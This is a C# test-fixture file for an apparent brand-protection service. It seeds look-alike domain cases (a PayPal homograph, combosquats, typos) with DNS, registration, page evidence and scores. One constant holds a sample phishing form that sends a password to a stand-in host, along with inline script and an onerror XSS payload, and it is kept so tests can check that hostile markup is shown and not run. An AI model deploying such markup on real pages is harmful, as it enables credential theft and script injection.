using BrandWatch.Rules.Cases;
using BrandWatch.Rules.Evidence;
using BrandWatch.Rules.Scoring;
using BrandWatch.Rules.Screening;

namespace BrandWatch.Api.Tests.Web;

/// <summary>Cases as the Worker files them, for seeding the Api through its own endpoint.</summary>
public static class Filings
{
    public static readonly DateTimeOffset Observed = new(2026, 1, 10, 9, 30, 0, TimeSpan.Zero);

    /// <summary>The page fragment a phishing finding quotes: hostile markup that must be shown, never run.</summary>
    public const string HostileFragment = "<form action=\"https://collect.example/steal\"><input name=\"password\"><script>window.pwned=1</script><img src=x onerror=\"window.pwned=1\"></form>";

    public const string PageSha256 = "9f2c5d0e6b1a4c3f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a392817";

    /// <summary>xn--pypal-4ve.com: PayPal with a Cyrillic а, a live login page, registered in 2026.</summary>
    public static CaseFiling PaypalHomograph() => PaypalHomograph("xn--pypal-4ve.com", "pаypal.com", 92);

    /// <summary>The same facts on another look-alike (xn--pypl-53dc.com, two Cyrillic а), for tests that decide it.</summary>
    public static CaseFiling PaypalSecondHomograph() => PaypalHomograph("xn--pypl-53dc.com", "pаypаl.com", 90);

    private static CaseFiling PaypalHomograph(string ascii, string unicode, int priority) => new()
    {
        Mark = "paypal",
        Subject = ascii,
        Kind = SubjectKind.Domain,
        Matches =
        [
            new DomainMatch
            {
                Domain = ascii, Unicode = unicode, Mark = "paypal", Kind = MatchKind.Homoglyph,
                LabelForm = "paypal", Similarity = 0.97, Explanation = "Cyrillic 'а' (U+0430) in place of Latin 'a' at position 2",
            },
        ],
        Evidence = new CaseEvidence
        {
            Dns = new DnsEvidence
            {
                Domain = ascii, Outcome = DnsOutcome.Resolved, ObservedAt = Observed,
                A = ["203.0.113.7"], NameServers = ["ns1.example-dns.net"], Mx = ["mx." + ascii],
            },
            Registration = new RegistrationEvidence
            {
                Domain = ascii, Source = "rdap", Registered = new DateTimeOffset(2026, 1, 8, 4, 0, 0, TimeSpan.Zero),
                Expires = new DateTimeOffset(2027, 1, 8, 4, 0, 0, TimeSpan.Zero), RegistrarName = "Example Registrar",
                RegistrarAbuseEmail = "abuse@registrar.example", PrivacyService = "Privacy Proxy Ltd", Redacted = true,
            },
            Pages =
            [
                new PageEvidence
                {
                    Url = $"http://{ascii}/", FinalUrl = $"http://{ascii}/signin", Status = 200, Sha256 = PageSha256,
                    FetchedAt = Observed.AddMinutes(2), RedirectChain = [$"http://{ascii}/"],
                    Findings =
                    [
                        new PageFinding { Criterion = Criteria.U1, Mark = "paypal", Evidence = HostileFragment, Reason = "A password form under the PayPal name and logo" },
                    ],
                },
            ],
        },
        Verdict = Verdict(priority, Outcome.Likely, RecommendedAction.AbuseTakedown, DisputePath.OnlyComplainantHoldsRights,
            new Contribution(Criteria.A3, 0.9, unicode, "IDN homograph: the UTS #39 skeleton equals paypal"),
            new Contribution(Criteria.U1, 0.8, "password form", "Credential form with brand assets")),
        ObservedAt = Observed,
    };

    /// <summary>A combosquat of PayPal, lower priority.</summary>
    public static CaseFiling PaypalCombosquat() => Simple("paypal", "paypal-login-secure.com", MatchKind.Combosquat, 64, Outcome.Possible, RecommendedAction.UdrpTransfer);

    /// <summary>A case of another owner (Zalando SE): a PayPal brand manager must never see it.</summary>
    public static CaseFiling ZalandoTypo() => Simple("zalando", "zalanndo.shop", MatchKind.Repetition, 71, Outcome.Likely, RecommendedAction.UdrpTransfer);

    /// <summary>Filler for the queue: typos of PayPal of decreasing priority.</summary>
    public static IEnumerable<CaseFiling> PaypalTypos(int count) =>
        Enumerable.Range(0, count).Select(i => Simple("paypal", $"paypa{(char)('a' + (i % 26))}{i}.net", MatchKind.Replacement, 40 - (i % 30), Outcome.Possible, RecommendedAction.Monitor));

    private static CaseFiling Simple(string mark, string domain, MatchKind kind, int priority, Outcome outcome, RecommendedAction action) => new()
    {
        Mark = mark,
        Subject = domain,
        Kind = SubjectKind.Domain,
        Matches = [new DomainMatch { Domain = domain, Unicode = domain, Mark = mark, Kind = kind, LabelForm = mark, Similarity = 0.85, Explanation = $"{kind} of {mark}" }],
        Evidence = new CaseEvidence { Dns = new DnsEvidence { Domain = domain, Outcome = DnsOutcome.NxDomain, ObservedAt = Observed } },
        Verdict = Verdict(priority, outcome, action, DisputePath.OnlyComplainantHoldsRights,
            new Contribution(Criteria.A2, 0.6, domain, $"typo of {mark}")),
        ObservedAt = Observed,
    };

    private static Verdict Verdict(int priority, Outcome outcome, RecommendedAction action, DisputePath path, params Contribution[] act) => new()
    {
        Act = new ElementScore(0.9, act),
        Damage = new ElementScore(0.7, [new Contribution(Criteria.D2, 0.7, "login form", "Consumer fraud is likely")]),
        Causation = new ElementScore(0.6, [new Contribution(Criteria.C1, 0.6, "similar string, same services", "Likelihood of confusion")]),
        Fault = new ElementScore(0.8, [new Contribution(Criteria.F1, 0.8, "well-known mark", "A famous mark plus a look-alike leaves no innocent explanation")]),
        GatesAndDefences = [new Contribution(Criteria.G1, 0, "registered 2026-01-08", "Registered long after the mark (1999-05-18): gate passed")],
        Fits = new Fits(0.85, 0.4, 0.9),
        Overall = priority / 100.0,
        Priority = priority,
        Outcome = outcome,
        DisputePath = path,
        Action = action,
        ActionReason = "Live credential phishing on a look-alike of a famous mark",
        RuleVersion = "2026.11.1",
        RuleHash = "3b1f0c9a7d2e4f6a8b0c1d2e3f4a5b6c7d8e9f00",
    };
}
